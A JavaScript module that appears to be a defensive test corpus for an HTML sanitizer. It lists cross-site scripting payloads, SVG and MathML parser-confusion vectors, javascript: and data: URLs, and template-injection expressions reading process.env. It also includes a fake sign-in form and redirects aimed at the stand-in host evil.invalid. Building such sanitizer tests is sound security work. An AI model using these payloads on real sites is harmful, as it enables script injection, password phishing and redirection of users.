/** Sets `hostile` in the page's own world; must never run. */
const run = 'globalThis.hostile=1'

/** The attribute that marks elements which must never be created. */
export const hostileMark = 'data-hostile'

const tags = 'script img svg iframe object embed video audio input details body a'.split(' ')
const events = 'onerror onload onclick onfocus onmouseover onanimationstart ontoggle onbegin'.split(' ')
const openings = ['', '">', "'>", '-->', ']]>', '</title>', '</textarea>', '</style>', '</script>', '`>']

/** Elements, and characters that end the surrounding context. */
export const markup = [
  ...tags.flatMap((tag) => [
    `<${tag} ${hostileMark} src=x href=javascript:${run} data=x>`,
    `<${tag.toUpperCase()}\n${hostileMark}/onload=${run}>`,
    `<${tag} ${hostileMark} autofocus tabindex=1 onfocus=${run} onerror=${run}>${run}</${tag}>`,
  ]),
  ...events.flatMap((event) => [
    `<img ${hostileMark} src=x ${event}=${run}>`,
    `" ${event}="${run}" ${hostileMark} x="`,
    `' ${event}='${run}' autofocus '`,
  ]),
  ...openings.map((opening) => `${opening}<script ${hostileMark}>${run}</script>`),
  ...openings.map((opening) => `${opening}<img ${hostileMark} src onerror=${run}>`),
  `<style ${hostileMark}>*{display:none!important}</style>`,
  `<base ${hostileMark} href=https://evil.invalid/>`,
  `<meta ${hostileMark} http-equiv=refresh content="0;url=https://evil.invalid/">`,
  `<link ${hostileMark} rel=stylesheet href=https://evil.invalid/x.css>`,
  `<form ${hostileMark} action=https://evil.invalid/><input name=password><button>Sign in</button></form>`,
  `<template ${hostileMark} shadowrootmode=open><slot></slot></template>`,
  `<noscript><p title="</noscript><img ${hostileMark} src=x onerror=${run}>">`,
  '<plaintext>',
  '<!--',
  '<![CDATA[',
  '&lt;b&gt; &amp;amp; &#60;img src=x&#62; &nbsp;&colon;',
  '&#x3c;script&#x3e;globalThis.hostile=1&#x3c;/script&#x3e;',
]

/** Foreign elements (SVG, MathML), where parsers switch modes. */
export const foreign = [
  `<svg ${hostileMark}><script>${run}</script></svg>`,
  `<svg ${hostileMark}><animate attributeName=href values=javascript:${run} begin=0s></svg>`,
  `<svg ${hostileMark}><foreignObject><iframe srcdoc="<script>parent.hostile=1</script>"></foreignObject></svg>`,
  `<svg ${hostileMark}><use href="data:image/svg+xml,<svg id=x onload=${run}></svg>#x"></svg>`,
  `<math ${hostileMark}><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
  `<math ${hostileMark}><maction actiontype=statusline xlink:href=javascript:${run}>x</maction></math>`,
  `<math><annotation-xml encoding=text/html><img ${hostileMark} src onerror=${run}></annotation-xml></math>`,
  `<xmp><img ${hostileMark} src onerror=${run}></xmp>`,
]

/** Where each template language puts an expression. */
const wraps = '{{…}} ${…} #{…} <%=…%> {%…%} [[…]] $(…) `…` %{…} @{…}'.split(' ')
const expressions = [
  run,
  '7*7',
  'constructor.constructor("globalThis.hostile=1")()',
  'this.__proto__',
  'process.env',
]
/** Expressions in the syntax of template languages. */
export const templates = wraps.flatMap((wrap) => expressions.map((inside) => wrap.replace('…', () => inside)))

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  '\u0001javascript:',
  'vbscript:',
  'javascript&colon;',
]
/** URLs that run code or lead elsewhere. */
export const urls = [
  ...schemes.map((scheme) => `${scheme}${run}`),
  ...schemes.map((scheme) => `${scheme}//%0a${run}//`),
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,${btoa(`<script>${run}</script>`)}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
  'blob:https://evil.invalid/0',
  'filesystem:https://evil.invalid/x',
  'https://evil.invalid',
  '//evil.invalid',
  '\\\\evil.invalid\\share',
  'https://console.test@evil.invalid/',
  'https://xn--80ak6aa92e.invalid/',
  'url(https://evil.invalid/x.png)',
  'expression(globalThis.hostile=1)',
]
